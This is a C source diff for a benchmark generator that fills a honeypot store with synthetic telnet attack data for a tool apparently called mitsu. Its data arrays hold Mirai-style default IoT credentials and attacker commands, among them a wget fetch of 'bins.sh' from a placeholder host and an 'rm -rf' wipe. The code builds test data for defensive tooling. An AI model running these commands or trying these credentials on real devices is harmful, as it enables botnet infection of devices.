@@ -1,0 +1,473 @@
+/* bench/report/gen: fills a mitsu store (created by mitsu itself, so the schema is the real
+ * one) with months of synthetic attack data, fast, straight through SQLite: sessions and their
+ * events (connect, params, failed and successful logins, commands, downloads, close) from a
+ * skewed population of sources (a few very busy ones), samples with their sources and sandbox
+ * verdicts, device identifications, and darknet intervals with their ports and countries.
+ *
+ * usage: gen DB EVENTS DAYS
+ * The secondary indexes of events and sessions are dropped during the load and rebuilt with
+ * their own SQL at the end (as a bulk load would). Deterministic (fixed seed). */
+#include <inttypes.h>
+#include <sqlite3.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+
+#define SOURCES 200000
+#define SAMPLES 20000
+#define PROFILES 4
+
+static uint64_t rng = 0x9e3779b97f4a7c15ull;
+static uint64_t rnd(void)
+{
+	rng ^= rng << 13;
+	rng ^= rng >> 7;
+	rng ^= rng << 17;
+	return rng;
+}
+static uint32_t below(uint32_t n)
+{
+	return (uint32_t)(rnd() % n);
+}
+
+static void ts(int64_t us, char out[32])
+{
+	time_t s = (time_t)(us / 1000000);
+	struct tm tm;
+	gmtime_r(&s, &tm);
+	size_t n = strftime(out, 32, "%Y-%m-%dT%H:%M:%S", &tm);
+	snprintf(out + n, 32 - n, ".%06lldZ", (long long)(us % 1000000));
+}
+
+static void die(sqlite3 *db, const char *what)
+{
+	fprintf(stderr, "gen: %s: %s\n", what, sqlite3_errmsg(db));
+	exit(1);
+}
+
+static void exec(sqlite3 *db, const char *sql)
+{
+	if (sqlite3_exec(db, sql, NULL, NULL, NULL) != SQLITE_OK)
+		die(db, sql);
+}
+
+static sqlite3_stmt *prep(sqlite3 *db, const char *sql)
+{
+	sqlite3_stmt *q;
+	if (sqlite3_prepare_v2(db, sql, -1, &q, NULL) != SQLITE_OK)
+		die(db, sql);
+	return q;
+}
+
+static void done(sqlite3 *db, sqlite3_stmt *q)
+{
+	if (sqlite3_step(q) != SQLITE_DONE)
+		die(db, "insert");
+	sqlite3_reset(q);
+}
+
+/* A source address: a skewed draw (a few sources make most sessions), 198.18.0.0/15-like
+ * public-looking space spread over /8s. */
+static void source(char out[16])
+{
+	uint32_t r = below(1000);
+	uint32_t idx = r < 300 ? below(20) : r < 600 ? below(2000) : below(SOURCES);
+	uint32_t a = 0x0b000000u + idx * 2654435761u % 0xd0000000u;
+	snprintf(out, 16, "%u.%u.%u.%u", a >> 24, (a >> 16) & 255, (a >> 8) & 255, a & 255);
+}
+
+static const char *const users[] = {"root",    "admin",       "support", "user",   "guest",
+				    "default", "telnetadmin", "ubnt",    "888888", "666666"};
+static const char *const pwds[] = {
+	"xc3511", "vizxv",    "admin", "888888",       "default", "1234",   "12345",  "password",
+	"root",   "juantech", "anko",  "7ujMko0admin", "hi3518",  "klv123", "Zte521", "dreambox"};
+static const char *const cmds[] = {"enable",
+				   "system",
+				   "shell",
+				   "sh",
+				   "/bin/busybox ECCHI",
+				   "cat /proc/cpuinfo",
+				   "uname -a",
+				   "cd /tmp || cd /var/run || cd /mnt; wget http://%s/bins.sh",
+				   "/bin/busybox wget; /bin/busybox tftp; /bin/busybox MIRAI",
+				   "echo -e '\\x41\\x4b\\x34\\x37'",
+				   "rm -rf /tmp/* /var/tmp/*",
+				   "cat /bin/echo",
+				   "ps",
+				   "nproc"};
+static const char *const profiles[PROFILES] = {"dvr-hi3520d", "router-mips", "camera-arm",
+					       "stb-sh4"};
+static const char *const archs[] = {"mips", "mipsel", "arm", "arm7", "x86_64", "sh4", "ppc"};
+
+struct ctx {
+	sqlite3 *db;
+	sqlite3_stmt *ev, *sess, *smp, *src, *box, *cnc;
+	uint64_t nev, uuid_ctr;
+};
+
+/* One event row; json is the whole event line. */
+static void event(struct ctx *c, const char *eventid, int64_t us, const char *session,
+		  const char *ip, int dport, const char *message, const char *fields)
+{
+	char t[32], uuid[40], line[2048];
+	ts(us, t);
+	uint64_t u = ++c->uuid_ctr;
+	snprintf(uuid, sizeof(uuid), "%08" PRIx64 "-%04x-7%03x-8%03x-%012" PRIx64,
+		 (uint64_t)(us / 1000) >> 16, (unsigned)(us / 1000 & 0xffff), (unsigned)below(4096),
+		 (unsigned)below(4096), u);
+	int n;
+	if (session)
+		n = snprintf(line, sizeof(line),
+			     "{\"eventid\":\"%s\",\"timestamp\":\"%s\",\"sensor\":\"s1\","
+			     "\"message\":\"%s\",\"uuid\":\"%s\",\"session\":\"%s\","
+			     "\"protocol\":\"telnet\",\"src_ip\":\"%s\",\"src_port\":%u,"
+			     "\"dst_ip\":\"192.0.2.1\",\"dst_port\":%d%s%s}",
+			     eventid, t, message, uuid, session, ip, 1024 + below(60000), dport,
+			     fields ? "," : "", fields ? fields : "");
+	else
+		n = snprintf(line, sizeof(line),
+			     "{\"eventid\":\"%s\",\"timestamp\":\"%s\",\"sensor\":\"s1\","
+			     "\"message\":\"%s\",\"uuid\":\"%s\"%s%s}",
+			     eventid, t, message, uuid, fields ? "," : "", fields ? fields : "");
+	sqlite3_bind_text(c->ev, 1, uuid, -1, SQLITE_TRANSIENT);
+	sqlite3_bind_text(c->ev, 2, eventid, -1, SQLITE_STATIC);
+	sqlite3_bind_text(c->ev, 3, t, -1, SQLITE_TRANSIENT);
+	sqlite3_bind_text(c->ev, 4, "s1", -1, SQLITE_STATIC);
+	if (session) {
+		sqlite3_bind_text(c->ev, 5, session, -1, SQLITE_TRANSIENT);
+		sqlite3_bind_text(c->ev, 6, ip, -1, SQLITE_TRANSIENT);
+	} else {
+		sqlite3_bind_null(c->ev, 5);
+		sqlite3_bind_null(c->ev, 6);
+	}
+	sqlite3_bind_text(c->ev, 7, line, n, SQLITE_TRANSIENT);
+	done(c->db, c->ev);
+	c->nev++;
+}
+
+static void sample(struct ctx *c, uint32_t i, int64_t us, const char *ip, const char *session,
+		   const char *url)
+{
+	char sha[65], t[32];
+	snprintf(sha, sizeof(sha), "%016x%016x%016x%016x", i * 2654435761u, i, ~i, i ^ 0x5a5a5a5a);
+	ts(us, t);
+	sqlite3_bind_text(c->src, 1, sha, -1, SQLITE_TRANSIENT);
+	sqlite3_bind_text(c->src, 2, t, -1, SQLITE_TRANSIENT);
+	sqlite3_bind_text(c->src, 3, url, -1, SQLITE_TRANSIENT);
+	sqlite3_bind_text(c->src, 4, ip, -1, SQLITE_TRANSIENT);
+	sqlite3_bind_text(c->src, 5, session, -1, SQLITE_TRANSIENT);
+	done(c->db, c->src);
+}
+
+/* One session and its events; returns the events written. */
+static void session(struct ctx *c, int64_t us, uint64_t id)
+{
+	char ip[16], sid[17], t[32], t2[32], f[512], m[512];
+	source(ip);
+	snprintf(sid, sizeof(sid), "%016" PRIx64, (uint64_t)(id * 0x9e3779b97f4a7c15ull));
+	const char *profile = profiles[below(PROFILES)];
+	int dport = below(4) ? 23 : 2323;
+	snprintf(f, sizeof(f), "\"profile\":\"%s\"", profile);
+	snprintf(m, sizeof(m), "new connection: %s [session: %s]", ip, sid);
+	event(c, "mitsu.session.connect", us, sid, ip, dport, m, f);
+	event(c, "mitsu.session.params", us + 1000, sid, ip, dport, "terminal size 80x24",
+	      "\"width\":80,\"height\":24");
+	int fails = (int)below(4), login = below(10) < 6, ncmd = login ? (int)below(9) : 0;
+	const char *u = users[below(10)], *p = pwds[below(16)];
+	int64_t at = us + 2000;
+	for (int k = 0; k < fails; k++, at += 500000) {
+		const char *fu = users[below(10)], *fp = pwds[below(16)];
+		snprintf(f, sizeof(f), "\"username\":\"%s\",\"password\":\"%s\"", fu, fp);
+		snprintf(m, sizeof(m), "login attempt [%s/%s] failed", fu, fp);
+		event(c, "mitsu.login.failed", at, sid, ip, dport, m, f);
+	}
+	if (login) {
+		snprintf(f, sizeof(f), "\"username\":\"%s\",\"password\":\"%s\"", u, p);
+		snprintf(m, sizeof(m), "login attempt [%s/%s] succeeded", u, p);
+		event(c, "mitsu.login.success", at, sid, ip, dport, m, f);
+	}
+	char host[16];
+	snprintf(host, sizeof(host), "198.51.%u.%u", below(8), below(250));
+	int downloads = 0;
+	for (int k = 0; k < ncmd; k++) {
+		at += 300000;
+		char cmd[256];
+		snprintf(cmd, sizeof(cmd), cmds[below(14)], host);
+		snprintf(f, sizeof(f), "\"input\":\"%s\"", cmd);
+		snprintf(m, sizeof(m), "CMD: %s", cmd);
+		event(c, "mitsu.command.input", at, sid, ip, dport, m, f);
+		if (strstr(cmd, "wget http") && downloads < 1) {
+			downloads++;
+			uint32_t s = below(SAMPLES);
+			char url[96], sha[65];
+			snprintf(url, sizeof(url), "http://%s/bins.sh", host);
+			snprintf(sha, sizeof(sha), "%016x%016x%016x%016x", s * 2654435761u, s, ~s,
+				 s ^ 0x5a5a5a5a);
+			snprintf(f, sizeof(f),
+				 "\"url\":\"%s\",\"shasum\":\"%s\",\"size\":4321,\"destfile\":"
+				 "\"bins.sh\",\"duplicate\":true,\"method\":\"wget\"",
+				 url, sha);
+			snprintf(m, sizeof(m), "downloaded %s", url);
+			event(c, "mitsu.session.file_download", at + 1000, sid, ip, dport, m, f);
+			sample(c, s, at + 1000, ip, sid, url);
+		}
+	}
+	at += 400000;
+	snprintf(f, sizeof(f), "\"duration\":%.1f,\"reason\":\"peer\"", (double)(at - us) / 1e6);
+	event(c, "mitsu.session.closed", at, sid, ip, dport, "session closed (peer)", f);
+	ts(us, t);
+	ts(at, t2);
+	sqlite3_stmt *q = c->sess;
+	sqlite3_bind_text(q, 1, sid, -1, SQLITE_TRANSIENT);
+	sqlite3_bind_text(q, 2, profile, -1, SQLITE_STATIC);
+	sqlite3_bind_text(q, 3, ip, -1, SQLITE_TRANSIENT);
+	sqlite3_bind_int(q, 4, dport);
+	sqlite3_bind_text(q, 5, t, -1, SQLITE_TRANSIENT);
+	sqlite3_bind_text(q, 6, t2, -1, SQLITE_TRANSIENT);
+	sqlite3_bind_double(q, 7, (double)(at - us) / 1e6);
+	sqlite3_bind_int(q, 8, login);
+	if (login) {
+		sqlite3_bind_text(q, 9, u, -1, SQLITE_STATIC);
+		sqlite3_bind_text(q, 10, p, -1, SQLITE_STATIC);
+	} else {
+		sqlite3_bind_null(q, 9);
+		sqlite3_bind_null(q, 10);
+	}
+	sqlite3_bind_int(q, 11, fails);
+	sqlite3_bind_int(q, 12, ncmd);
+	sqlite3_bind_int(q, 13, downloads);
+	done(c->db, q);
+}
+
+static void samples_and_verdicts(struct ctx *c, int64_t t0, int64_t span)
+{
+	for (uint32_t i = 0; i < SAMPLES; i++) {
+		char sha[65], t[32], v[1024];
+		snprintf(sha, sizeof(sha), "%016x%016x%016x%016x", i * 2654435761u, i, ~i,
+			 i ^ 0x5a5a5a5a);
+		int64_t us = t0 + (int64_t)(rnd() % (uint64_t)span);
+		ts(us, t);
+		const char *arch = archs[below(7)];
+		sqlite3_bind_text(c->smp, 1, sha, -1, SQLITE_TRANSIENT);
+		sqlite3_bind_text(c->smp, 2, arch, -1, SQLITE_STATIC);
+		sqlite3_bind_text(c->smp, 3, t, -1, SQLITE_TRANSIENT);
+		done(c->db, c->smp);
+		int lan = below(100) < 4, scan = below(10) < 8;
+		const char *fam = below(2) ? "mirai" : "gafgyt";
+		char cnc[16];
+		snprintf(cnc, sizeof(cnc), "203.0.%u.%u", below(4), below(250));
+		snprintf(v, sizeof(v),
+			 "{\"sha256\":\"%s\",\"arch\":\"%s\",\"family\":\"%s\",\"verdict\":"
+			 "\"malicious\",\"analysed\":\"%s\",\"seconds\":%u,\"cnc\":[{\"host\":\"%"
+			 "s\","
+			 "\"ip\":\"%s\",\"port\":23,\"protocol\":\"tcp\"}],\"scan\":{\"detected\":%"
+			 "s},"
+			 "\"lan_attack\":{\"detected\":%s,\"evidence\":[]},\"ddos\":{\"detected\":"
+			 "false},\"dynamic\":{\"ran\":true},\"static\":{\"yara\":[]}}",
+			 sha, arch, fam, t, 30 + below(60), cnc, cnc, scan ? "true" : "false",
+			 lan ? "true" : "false");
+		sqlite3_stmt *q = c->box;
+		sqlite3_bind_text(q, 1, sha, -1, SQLITE_TRANSIENT);
+		sqlite3_bind_text(q, 2, arch, -1, SQLITE_STATIC);
+		sqlite3_bind_text(q, 3, fam, -1, SQLITE_STATIC);
+		sqlite3_bind_text(q, 4, t, -1, SQLITE_TRANSIENT);
+		sqlite3_bind_int(q, 5, scan);
+		sqlite3_bind_int(q, 6, lan);
+		sqlite3_bind_text(q, 7, v, -1, SQLITE_TRANSIENT);
+		done(c->db, q);
+		sqlite3_int64 rid = sqlite3_last_insert_rowid(c->db);
+		sqlite3_bind_int64(c->cnc, 1, rid);
+		sqlite3_bind_text(c->cnc, 2, sha, -1, SQLITE_TRANSIENT);
+		sqlite3_bind_text(c->cnc, 3, cnc, -1, SQLITE_TRANSIENT);
+		done(c->db, c->cnc);
+		if (i % 4 == 0) {
+			char f[256], ip[16];
+			source(ip);
+			snprintf(f, sizeof(f),
+				 "\"ip\":\"%s\",\"category\":\"DVR\",\"vendor\":\"Hikvision\","
+				 "\"product\":\"DS-7204\",\"evidence\":\"banner\"",
+				 ip);
+			event(c, "mitsu.ident.result", us + 5000000, NULL, NULL, 0,
+			      "device identified", f);
+		}
+	}
+}
+
+/* One scope run per day of hourly intervals. */
+static void darknet(struct ctx *c, int64_t t0s, int days)
+{
+	sqlite3_stmt *iv = prep(c->db, "INSERT INTO scope_intervals VALUES(?1,?2,?3,3600,?4,?5,?6,"
+				       "100,?7,?8,10,5,3,2,?9,?10,?11,1,1,1,1,?12,?13,?14,?15,?16,"
+				       "?17,?18,?19)");
+	sqlite3_stmt *pt = prep(c->db, "INSERT INTO scope_ports VALUES(?1,?2,?3,?4,?5,?6)");
+	sqlite3_stmt *cc = prep(c->db, "INSERT INTO scope_countries VALUES(?1,?2,?3,?4,?5,?6)");
+	static const char *const ccs[] = {"CN", "US", "BR", "RU", "JP", "IN", "VN", "KR",
+					  "TW", "TR", "DE", "FR", "IR", "ID", "EG", "MX"};
+	for (int d = 0; d < days; d++) {
+		char t[32], report[8192];
+		int64_t day = t0s + (int64_t)d * 86400;
+		ts(day * 1000000, t);
+		/* One run per day; its report lists scanners and DoS victims, as mitsu scope's. */
+		int n = snprintf(report, sizeof(report), "{\"scanners\":{\"top\":[");
+		for (int k = 0; k < 20; k++) {
+			char ip[16];
+			source(ip);
+			n += snprintf(
+				report + n, sizeof(report) - (size_t)n,
+				"%s{\"source\":\"%s\",\"proto\":\"tcp\",\"port\":23,\"first\":"
+				"\"%s\",\"last\":\"%s\",\"packets\":%u,\"labels\":[\"mirai\"],"
+				"\"country\":\"%s\"}",
+				k ? "," : "", ip, t, t, 1000 + below(9000), ccs[below(16)]);
+		}
+		n += snprintf(report + n, sizeof(report) - (size_t)n,
+			      "]},\"backscatter\":{\"attacks\":[]}}");
+		char *sql = sqlite3_mprintf(
+			"INSERT INTO scope_runs(started, inputs, interval, darknet, report) VALUES "
+			"(%Q, '[]', 3600, '[]', %Q)",
+			t, report);
+		exec(c->db, sql);
+		sqlite3_free(sql);
+		sqlite3_int64 run = sqlite3_last_insert_rowid(c->db);
+		for (int h = 0; h < 24; h++) {
+			int64_t s = day + h * 3600;
+			ts(s * 1000000, t);
+			uint32_t pk = 500000 + below(500000), src = 20000 + below(20000);
+			int64_t v[] = {run,
+				       0,
+				       s,
+				       pk,
+				       pk * 60,
+				       src,
+				       pk * 7 / 10,
+				       pk / 10,
+				       pk * 45 / 100,
+				       src / 5,
+				       pk / 10,
+				       pk / 50,
+				       below(500),
+				       30 + below(40),
+				       src * 9 / 10,
+				       src / 20,
+				       src / 50,
+				       src / 50,
+				       src / 10};
+			sqlite3_bind_int64(iv, 1, run);
+			sqlite3_bind_text(iv, 2, t, -1, SQLITE_TRANSIENT);
+			for (int k = 2; k < 19; k++)
+				sqlite3_bind_int64(iv, k + 1, v[k]);
+			done(c->db, iv);
+			for (int p = 0; p < 100; p++) {
+				sqlite3_bind_int64(pt, 1, run);
+				sqlite3_bind_int64(pt, 2, s);
+				sqlite3_bind_text(pt, 3, p % 10 == 9 ? "udp" : "tcp", -1,
+						  SQLITE_STATIC);
+				sqlite3_bind_int(pt, 4,
+						 p == 0   ? 23
+						 : p == 1 ? 2323
+							  : 1000 + p * 37);
+				sqlite3_bind_int64(pt, 5, pk / (uint32_t)(p + 2));
+				sqlite3_bind_int64(pt, 6, src / (uint32_t)(p + 2));
+				done(c->db, pt);
+			}
+			for (int k = 0; k < 16; k++) {
+				sqlite3_bind_int64(cc, 1, run);
+				sqlite3_bind_int64(cc, 2, s);
+				sqlite3_bind_text(cc, 3, ccs[k], -1, SQLITE_STATIC);
+				sqlite3_bind_int64(cc, 4, src / (uint32_t)(k + 2));
+				sqlite3_bind_int64(cc, 5, pk / (uint32_t)(k + 2));
+				sqlite3_bind_int64(cc, 6, src / (uint32_t)(k + 8));
+				done(c->db, cc);
+			}
+		}
+	}
+	sqlite3_finalize(iv);
+	sqlite3_finalize(pt);
+	sqlite3_finalize(cc);
+}
+
+int main(int argc, char **argv)
+{
+	if (argc != 4) {
+		fprintf(stderr, "usage: gen DB EVENTS DAYS\n");
+		return 2;
+	}
+	uint64_t want = strtoull(argv[2], NULL, 10);
+	int days = atoi(argv[3]);
+	struct ctx c = {0};
+	if (sqlite3_open(argv[1], &c.db) != SQLITE_OK)
+		die(c.db, "open");
+	exec(c.db, "PRAGMA journal_mode=WAL; PRAGMA synchronous=OFF; PRAGMA cache_size=-1000000;");
+	/* The secondary indexes, dropped for the load and rebuilt from their own SQL. */
+	char *indexes[32], *names[32];
+	int nidx = 0;
+	sqlite3_stmt *q = prep(c.db, "SELECT name, sql FROM sqlite_master WHERE type = 'index' AND "
+				     "sql IS NOT NULL AND tbl_name IN ('events', 'sessions')");
+	while (sqlite3_step(q) == SQLITE_ROW && nidx < 32) {
+		names[nidx] = strdup((const char *)sqlite3_column_text(q, 0));
+		indexes[nidx++] = strdup((const char *)sqlite3_column_text(q, 1));
+	}
+	sqlite3_finalize(q);
+	for (int i = 0; i < nidx; i++) {
+		char *drop = sqlite3_mprintf("DROP INDEX \"%w\"", names[i]);
+		exec(c.db, drop);
+		sqlite3_free(drop);
+		free(names[i]);
+	}
+	exec(c.db, "BEGIN");
+	/* ?1 (uuid) and ?4 (sensor) are bound but not stored: the uuid and the sensor are in the
+	 * JSON, as mitsu's writer keeps them. */
+	c.ev = prep(c.db, "INSERT INTO events(eventid, timestamp, session, src_ip, json)"
+			  " VALUES (?2, ?3, ?5, ?6, ?7)");
+	c.sess = prep(c.db,
+		      "INSERT INTO sessions(sensor, session, protocol, profile, src_ip, "
+		      "src_port, dst_ip, dst_port, start, end, duration, login, username, "
+		      "password, login_failures, commands, downloads, uploads, reason) VALUES "
+		      "('s1', ?1, 'telnet', ?2, ?3, 40000, '192.0.2.1', ?4, ?5, ?6, ?7, ?8, ?9, "
+		      "?10, ?11, ?12, ?13, 0, 'peer')");
+	c.smp = prep(c.db, "INSERT OR IGNORE INTO samples(sha256, sha1, md5, size, filetype, arch, "
+			   "first_seen, last_seen, times_seen) VALUES (?1, substr(?1, 1, 40), "
+			   "substr(?1, 1, 32), 4321, 'ELF', ?2, ?3, ?3, 1)");
+	c.src = prep(c.db, "INSERT INTO sample_sources(sha256, seen, source, method, url, src_ip, "
+			   "session, destfile) VALUES (?1, ?2, 'download', 'wget', ?3, ?4, ?5, "
+			   "'bins.sh')");
+	c.box = prep(c.db, "INSERT INTO box_results(sha256, arch, family, analysed, captured, "
+			   "seconds, dynamic, scan, lan_attack, ddos, killer, persistence, cnc, "
+			   "verdict) VALUES (?1, ?2, ?3, ?4, ?4, 60, 1, ?5, ?6, 0, 0, 0, 1, ?7)");
+	c.cnc = prep(c.db, "INSERT INTO box_cnc(result, sha256, host, ip, port, protocol) VALUES "
+			   "(?1, ?2, ?3, ?3, 23, 'tcp')");
+	/* The data ends now, as a live sensor's store does. */
+	int64_t t_end = (int64_t)time(NULL);
+	int64_t t0 = (t_end - (int64_t)days * 86400) * 1000000;
+	int64_t span = (int64_t)days * 86400 * 1000000;
+	samples_and_verdicts(&c, t0, span);
+	darknet(&c, t_end - (int64_t)days * 86400, days);
+	/* Sessions spread evenly over the days: the gap between two is what is left of the time
+	 * over the sessions still needed, at the events per session seen so far (about 7). */
+	uint64_t first = c.nev, sess = 0;
+	int64_t at = t0, end = t0 + span;
+	while (c.nev < want) {
+		double per = sess ? (double)(c.nev - first) / (double)sess : 7.0;
+		double left = (double)(want - c.nev) / per;
+		int64_t step = (int64_t)((double)(end - at) / (left > 1 ? left : 1));
+		at += step > 1 ? step : 1;
+		session(&c, at, sess++);
+		if (sess % 200000 == 0) {
+			exec(c.db, "COMMIT");
+			exec(c.db, "BEGIN");
+		}
+	}
+	exec(c.db, "COMMIT");
+	sqlite3_stmt *all[] = {c.ev, c.sess, c.smp, c.src, c.box, c.cnc};
+	for (size_t i = 0; i < sizeof(all) / sizeof(all[0]); i++)
+		sqlite3_finalize(all[i]);
+	for (int i = 0; i < nidx; i++) {
+		exec(c.db, indexes[i]);
+		free(indexes[i]);
+	}
+	exec(c.db, "PRAGMA wal_checkpoint(TRUNCATE);");
+	sqlite3_close(c.db);
+	fprintf(stderr, "gen: %llu events\n", (unsigned long long)c.nev);
+	return 0;
+}
